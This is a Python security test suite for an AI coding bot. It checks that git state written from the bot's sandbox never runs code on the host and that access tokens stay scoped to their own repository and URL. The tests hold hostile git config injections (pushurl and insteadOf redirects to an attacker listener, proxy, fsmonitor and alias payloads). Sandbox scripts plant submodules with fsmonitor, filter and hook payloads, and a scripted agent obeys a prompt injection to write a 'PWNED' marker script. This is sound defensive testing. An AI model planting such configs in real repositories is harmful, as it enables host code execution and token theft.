"""The host's git never acts on what the sandbox wrote; a token reaches only its own remote;
one run cannot touch another's mirror. Real git, real sandbox, fakehub and an attacker's
listener on loopback."""

from __future__ import annotations

import base64
import contextlib
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from temporalio.client import Client

from bot.activities.repo import attribute_range
from bot.agents.tools.search import git_grep
from bot.core.remote import Credential, Remote
from bot.core.targets import CommentKind, RepoRef, Target
from bot.errors import GitError, GitHubError
from bot.git.checkout import open_worktree, remove_worktree
from bot.git.env import git_command
from bot.git.mirror import MIRROR_CONFIG, MirrorCache
from bot.git.refs import create_branch, push
from bot.git.run import run_git
from bot.git.worktree import Worktree
from bot.github.app import GitHubApp
from bot.github.forge import GitHubForge
from bot.sandbox.bwrap import run_sandboxed, sandbox_available
from tests.attacks.hostile_git import Listener, Payload, commit_gitlink, plain_git, plant_repo
from tests.fakehub import FakeHub
from tests.fakes import ScriptedModel, ToolCall, Turn
from tests.support.project import PROJECT_FILES, edit, plan_turn
from tests.support.runstack import run_stack

BRANCH = "orchestrate/6-harden"
MAIN = "refs/remotes/origin/main"
TYPO_FIX = [
    Turn(tool_calls=[edit("README.md", "A tiny command-line tool.", "A tiny command-line tool!")]),
    Turn(text="Fixed the typo."),
]


@pytest.fixture
def payload(tmp_path: Path) -> Payload:
    return Payload.create(tmp_path / "payload")


@pytest.fixture
def attacker() -> Iterator[Listener]:
    with Listener() as listener:
        yield listener


@pytest.fixture
def origin(tmp_path: Path) -> Remote:
    """A bare repository: main with shared.txt, and the scratch branch with a submodule."""
    bare, seed = tmp_path / "origin.git", tmp_path / "seed"
    plain_git(tmp_path, "init", "--bare", "--quiet", str(bare))
    seed.mkdir()
    plain_git(seed, "init", "--quiet")
    (seed / "shared.txt").write_text("one\ntwo\nthree\n")
    plain_git(seed, "add", "-A")
    plain_git(seed, "commit", "--quiet", "-m", "base")
    plain_git(
        seed, "push", "--quiet", str(bare), "HEAD:refs/heads/main", f"HEAD:refs/heads/{BRANCH}"
    )
    return Remote(str(bare), scope="local/origin")


def add_submodule(bare: Path, attacker_url: str, sha: str, ignore: str = "none") -> None:
    """A gitlink `sub` on the scratch branch, as an earlier round or the repository had it;
    `.gitmodules` asks git to look inside it (`ignore = none`) and names the attacker."""
    gitmodules = f'[submodule "sub"]\n\tpath = sub\n\turl = {attacker_url}/sub.git\n'
    commit_gitlink(bare, BRANCH, "sub", sha, gitmodules + f"\tignore = {ignore}\n")


async def every_worktree_operation(
    cache: MirrorCache, tree: Worktree, other: Worktree, mirror: Path
) -> None:
    """What the app runs on a worktree after sandboxed code, including a push that is rejected
    once (the other agent pushed first) and so fetches and rebases."""
    (tree.path / "shared.txt").write_text("changed\n")
    await tree.changed_files()
    await tree.discard(["shared.txt"])
    (tree.path / "lib.py").write_text("needle = 1\n")
    await tree.commit_all("Add lib", "implement")
    (other.path / "other.py").write_text("y = 2\n")
    await other.commit_all("Add other", "test")
    await push(cache, other)
    await push(cache, tree)
    await git_grep(tree.path, "needle")
    with contextlib.suppress(GitError):  # a gitlink in the range: attribution may refuse it
        await attribute_range(mirror, MAIN, f"refs/remotes/origin/{BRANCH}")
    await remove_worktree(cache, tree)


@pytest.mark.parametrize("git_file", [False, True], ids=["git-dir", "gitfile"])
async def test_planted_submodule_git_dir_never_runs_on_the_host(
    origin: Remote, payload: Payload, attacker: Listener, tmp_path: Path, git_file: bool
) -> None:
    """A populated submodule whose git dir (or gitfile target) the sandbox wrote, with an
    fsmonitor, hooks, filters, aliases, pager and includes, never runs through host git."""
    head = plain_git(Path(origin.url), "rev-parse", "refs/heads/main").strip()
    add_submodule(Path(origin.url), attacker.url, head)
    cache = MirrorCache(tmp_path / "cache")
    tree = await open_worktree(cache, origin, BRANCH, tmp_path / "wt")
    other = await open_worktree(cache, origin, BRANCH, tmp_path / "wt-other")
    plant_repo(tree.path / "sub", payload.script, attacker.url, git_file=git_file)

    await every_worktree_operation(cache, tree, other, cache.mirror_path(origin))

    assert payload.ran() == ""
    assert attacker.requests == []
    pushed = plain_git(Path(origin.url), "ls-tree", "-r", BRANCH)
    assert "lib.py" in pushed and "other.py" in pushed


async def test_nested_repo_from_the_sandbox_is_never_committed_as_a_gitlink(
    origin: Remote, tmp_path: Path
) -> None:
    """A repository the sandbox creates in the worktree loses its `.git` before host git runs:
    what gets committed are plain files, never a gitlink a later round could populate."""
    if not sandbox_available():
        pytest.skip("bubblewrap cannot run here")
    cache = MirrorCache(tmp_path / "cache")
    tree = await open_worktree(cache, origin, BRANCH, tmp_path / "wt")
    made = await run_sandboxed(
        "git init -q vendor/lib && cd vendor/lib && echo x > a.txt && git add a.txt"
        " && git -c user.name=a -c user.email=a@b commit -qm lib && echo done",
        tree.path,
    )
    assert made.output.strip().endswith("done"), made.output
    assert await tree.remove_nested_repos() == ["vendor/lib/.git"]
    await tree.commit_all("vendor", "implement")
    await push(cache, tree)
    listed = plain_git(Path(origin.url), "ls-tree", "-r", BRANCH)
    assert "160000" not in listed and "\tvendor/lib/a.txt" in listed


async def test_gitlink_of_an_earlier_round_populated_by_the_sandbox_never_runs(
    origin: Remote, payload: Payload, attacker: Listener, tmp_path: Path
) -> None:
    """Round 1 committed a gitlink; in round 2 a sandboxed command populates it with a hostile
    git dir: the next host git commands (status, add, commit, push, grep) never run it."""
    if not sandbox_available():
        pytest.skip("bubblewrap cannot run here")
    head = plain_git(Path(origin.url), "rev-parse", "refs/heads/main").strip()
    add_submodule(Path(origin.url), attacker.url, head)
    cache = MirrorCache(tmp_path / "cache")
    tree = await open_worktree(cache, origin, BRANCH, tmp_path / "wt")
    other = await open_worktree(cache, origin, BRANCH, tmp_path / "wt-other")
    script = (
        "cd sub && git init -q && echo needle > t.txt && echo '* filter=evil' > .gitattributes"
        " && git add -A && git -c user.name=a -c user.email=a@b commit -qm sub"
        f" && git config core.fsmonitor {payload.script}"
        f" && git config filter.evil.clean {payload.script}"
        f" && git config core.hooksPath {payload.script.parent}"
        " && touch -d 2001-01-01 t.txt && echo planted"  # a changed stat: git re-filters t.txt
    )
    planted = await run_sandboxed(script, tree.path)
    assert planted.output.strip().endswith("planted"), planted.output
    # What the sandbox could not do (it cannot see the payload's directory) is done here.
    for hook in ("post-checkout", "pre-commit", "reference-transaction", "post-rewrite"):
        (payload.script.parent / hook).symlink_to(payload.script)

    await every_worktree_operation(cache, tree, other, cache.mirror_path(origin))

    assert payload.ran() == ""


# ---- tokens: only for their own URL, never from a worktree -----------------------------------


async def test_push_retry_never_sends_the_token_to_a_submodule_origin(
    hub: FakeHub, repo_name: str, payload: Payload, attacker: Listener, tmp_path: Path
) -> None:
    """A rebase retry after a rejected push fetches in the mirror, not in the worktree: a
    populated submodule whose origin is the attacker gets no request, the hub gets the push."""
    hub.add_repo("octo", repo_name)
    remote = Remote(hub.git_url("octo", repo_name), hub.issue_token(), scope="github/1/x")
    cache = MirrorCache(tmp_path / "cache")
    await create_branch(cache, remote, BRANCH, "main")
    bare = hub.bare_path("octo", repo_name)
    add_submodule(bare, attacker.url, plain_git(bare, "rev-parse", "main").strip(), "all")
    tree = await open_worktree(cache, remote, BRANCH, tmp_path / "wt")
    plant_repo(tree.path / "sub", payload.script, attacker.url)
    (tree.path / "lib.py").write_text("x = 1\n")
    await tree.commit_all("Add lib", "implement")
    # Upstream moves the gitlink: a recursing fetch would now fetch the submodule's origin.
    add_submodule(bare, attacker.url, plain_git(bare, "rev-parse", BRANCH).strip(), "all")

    head = await push(cache, tree)

    assert hub.branch_sha("octo", repo_name, BRANCH) == head
    assert attacker.requests == []
    assert payload.ran() == ""


TAMPERING = {
    "pushurl": '[remote "origin"]\n\turl = {url}\n\tpushurl = {attacker}/stolen.git\n',
    "insteadOf": '[url "{attacker}/stolen.git"]\n\tinsteadOf = {url}\n',
    "proxy": "[http]\n\tproxy = {attacker}\n",
    "fsmonitor": "[core]\n\tfsmonitor = {payload}\n",
    "alias": "[alias]\n\tfetch = !{payload}\n\tpush = !{payload}\n",
    "include": "[include]\n\tpath = {extra}\n",
    "includeIf": '[includeIf "gitdir:/"]\n\tpath = {extra}\n',
    "header": "[http]\n\textraHeader = X-Stolen: 1\n",
}


@pytest.mark.parametrize("kind", sorted(TAMPERING))
async def test_tampered_mirror_config_is_rebuilt_before_the_token_is_used(
    hub: FakeHub,
    repo_name: str,
    payload: Payload,
    attacker: Listener,
    tmp_path: Path,
    kind: str,
) -> None:
    """Whatever was added to a mirror's config (a redirected pushurl, insteadOf, a proxy, an
    fsmonitor, an alias, an include), the next sync rebuilds the mirror from scratch: the push
    lands on the hub and the attacker never sees a request."""
    hub.add_repo("octo", repo_name)
    remote = Remote(hub.git_url("octo", repo_name), hub.issue_token(), scope="github/1/x")
    cache = MirrorCache(tmp_path / "cache")
    mirror = await cache.sync(remote)
    extra = tmp_path / "extra.config"
    extra.write_text(f'[remote "origin"]\n\tpushurl = {attacker.url}/stolen.git\n')
    with (mirror / "config").open("a") as config:
        text = TAMPERING[kind].format(
            url=remote.url, attacker=attacker.url, payload=payload.script, extra=extra
        )
        config.write(text)

    await create_branch(cache, remote, BRANCH, "main")
    tree = await open_worktree(cache, remote, BRANCH, tmp_path / "wt")
    (tree.path / "lib.py").write_text("x = 1\n")
    await tree.commit_all("Add lib", "implement")
    head = await push(cache, tree)

    assert hub.branch_sha("octo", repo_name, BRANCH) == head
    assert (mirror / "config").read_text() == MIRROR_CONFIG
    assert attacker.requests == [] and payload.ran() == ""


@pytest.mark.parametrize(
    "planted",
    ["objects/info/alternates", "config.worktree", "commondir", "worktrees/wt/config.worktree"],
)
async def test_mirror_changed_mid_run_fails_the_push_without_using_the_token(
    hub: FakeHub, repo_name: str, attacker: Listener, tmp_path: Path, planted: str
) -> None:
    """A mirror changed while a worktree of it is open (an alternates file, per-worktree config,
    a common dir) makes the push fail and the mirror go; the hub's branch is unchanged."""
    hub.add_repo("octo", repo_name)
    remote = Remote(hub.git_url("octo", repo_name), hub.issue_token(), scope="github/1/x")
    cache = MirrorCache(tmp_path / "cache")
    before = await create_branch(cache, remote, BRANCH, "main")
    tree = await open_worktree(cache, remote, BRANCH, tmp_path / "wt")
    (tree.path / "lib.py").write_text("x = 1\n")
    await tree.commit_all("Add lib", "implement")
    mirror = cache.mirror_path(remote)
    target = mirror / planted
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(f"{attacker.url}/objects\n")

    with pytest.raises(GitError, match="changed outside the app"):
        await push(cache, tree)

    assert hub.branch_sha("octo", repo_name, BRANCH) == before
    assert not mirror.exists() and attacker.requests == []


def test_token_is_never_on_a_command_line_and_only_in_its_urls_header() -> None:
    """The runner puts the token in one environment value, under `http.<url>.extraHeader`
    for the remote's URL; no argument and no other variable holds it."""
    token = "ghs_SECRETSECRETSECRET"
    credential = Credential("https://github.com/octo/repo.git", token)
    encoded = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    argv, env = git_command(["push", "--", credential.url, "abc:refs/heads/x"], cwd=Path("/"),
                            credential=credential)  # fmt: skip
    assert not any(token in arg or encoded in arg for arg in argv)
    holding = [name for name, value in env.items() if token in value or encoded in value]
    assert len(holding) == 1 and holding[0].startswith("GIT_CONFIG_VALUE_")
    key = env[holding[0].replace("VALUE", "KEY")]
    assert key == "http.https://github.com/octo/repo.git.extraHeader"
    _, bare_env = git_command(["status"], cwd=Path("/"))
    assert not any("extraheader" in value.lower() for value in bare_env.values())


@pytest.mark.parametrize(
    ("asked", "sent"),
    [
        ("https://github.com/octo/repo.git", True),
        ("https://github.com/octo/repo.git/info/refs", True),
        ("https://github.com/octo/repo.git-evil/info/refs", False),
        ("https://github.com/octo/other.git", False),
        ("https://github.com.evil.example/octo/repo.git", False),
        ("https://github.com:8443/octo/repo.git", False),
        ("http://github.com/octo/repo.git", False),
        ("https://attacker.example/octo/repo.git", False),
    ],
)
async def test_git_matches_the_token_header_to_its_url_only(
    tmp_path: Path, asked: str, sent: bool
) -> None:
    """git's own URL matching, with the runner's environment: the header applies to the
    remote's URL and paths below it, never to another host, port, scheme or repository."""
    credential = Credential("https://github.com/octo/repo.git", "ghs_x")
    result = await run_git(
        ["config", "--get-urlmatch", "http.extraHeader", asked],
        cwd=tmp_path,
        credential=credential,
        check=False,
    )
    # The runner scrubs the header from git's output, so a match reads as this:
    assert (result.stdout.strip() == "Authorization: ***") is sent


# ---- tokens and mirrors belong to one installation and one repository --------------------------


async def test_token_for_one_repository_is_refused_for_another(
    hub: FakeHub, tmp_path: Path
) -> None:
    """The app asks GitHub for a token scoped to the run's repository: git and REST with it
    reach that repository and get 404 for the installation's other repositories."""
    owner = "scoped-" + tmp_path.name[-8:]
    mine = hub.add_repo(owner, "mine", installation_id=61)
    theirs = hub.add_repo(owner, "theirs", installation_id=61)
    app = GitHubApp(hub.app_id, hub.private_key_pem, hub.base_url)
    token = await app.installation_token(61, repository_id=mine.id)
    assert hub.token_scope(token) == frozenset({mine.id})
    assert await app.installation_token(61, repository_id=mine.id) == token  # cached
    assert await app.installation_token(61, repository_id=theirs.id) != token
    with pytest.raises(GitHubError, match="422"):  # not the installation's: GitHub refuses
        await app.installation_token(61, repository_id=10**9)

    cache = MirrorCache(tmp_path / "cache")
    await cache.sync(Remote(hub.git_url(owner, "mine"), token))
    with pytest.raises(GitError, match=r"not found|404"):
        await cache.sync(Remote(hub.git_url(owner, "theirs"), token))
    headers = {"Authorization": f"token {token}"}
    async with httpx.AsyncClient(base_url=hub.base_url, headers=headers) as http:
        assert (await http.get(f"/repos/{owner}/mine")).status_code == 200
        assert (await http.get(f"/repos/{owner}/theirs")).status_code == 404


async def test_each_installation_and_repository_has_its_own_mirror(
    hub: FakeHub, repo_name: str, tmp_path: Path
) -> None:
    """The forge names a remote's scope (installation, repository id): two scopes never share
    a mirror, even for one URL, so a mirror one run changed is never another's."""
    repo = hub.add_repo("octo", repo_name, installation_id=1)
    forge = GitHubForge(GitHubApp(hub.app_id, hub.private_key_pem, hub.base_url))
    target = Target(
        installation_id=1,
        repo=RepoRef(id=repo.id, owner="octo", name=repo_name),
        issue_number=1,
        comment_kind=CommentKind.ISSUE,
        comment_id=1,
    )
    remote = await forge.remote(target)
    assert remote.scope == f"github/1/{repo.id}"
    assert hub.token_scope(remote.token or "") == frozenset({repo.id})
    cache = MirrorCache(tmp_path / "cache")
    other = Remote(remote.url, remote.token, scope=f"github/2/{repo.id}")
    assert cache.mirror_path(remote) != cache.mirror_path(other)
    first, second = await cache.sync(remote), await cache.sync(other)
    assert first != second and first.is_dir() and second.is_dir()


# ---- the whole stack: an injected agent populates a submodule ---------------------------------


async def test_injected_agent_populating_a_submodule_never_runs_code_on_the_worker(
    hub: FakeHub, temporal_client: Client, task_queue: str, repo_name: str, tmp_path: Path
) -> None:
    """An agent obeying an injection `run`s a command that makes the repository's submodule a
    repository with an fsmonitor and a filter pointing at a script it wrote: the run completes,
    the script never runs on the worker, and the pushed branch still has the plain gitlink."""
    marker = tmp_path / "PWNED-ON-HOST"
    attack = (
        f"printf '#!/bin/sh\\necho pwned >> {marker}\\n' > \"$PWD/.p.sh\" && chmod +x .p.sh"
        " && cd sub && git init -q && echo x > t.txt && echo '* filter=evil' > .gitattributes"
        " && git add -A && git -c user.name=a -c user.email=a@b commit -qm x"
        ' && git config core.fsmonitor "$PWD/../.p.sh"'
        ' && git config filter.evil.clean "$PWD/../.p.sh"'
        " && touch -d 2001-01-01 t.txt"
    )
    scripts = {
        "submit_plan": [plan_turn(("implement",), "small")],
        "implement": [Turn(tool_calls=[ToolCall("run", {"command": attack})]), *TYPO_FIX],
    }
    with ScriptedModel(scripts) as model:
        async with run_stack(
            hub, temporal_client, task_queue, repo_name, model, tmp_path, files=PROJECT_FILES
        ) as stack:
            main = plain_git(stack.bare, "rev-parse", "refs/heads/main").strip()
            gitmodules = '[submodule "sub"]\n\tpath = sub\n\turl = ../sub.git\n\tignore = none\n'
            commit_gitlink(stack.bare, "main", "sub", main, gitmodules)
            await stack.command("/orchestrate fix the typo")
            progress = await stack.finished_run()
            [pull] = stack.pulls()
            tree = plain_git(stack.bare, "ls-tree", pull.head_ref, "sub")

    assert progress.state == "done", progress.state
    assert not marker.exists()
    assert tree.startswith(f"160000 commit {main}\tsub")
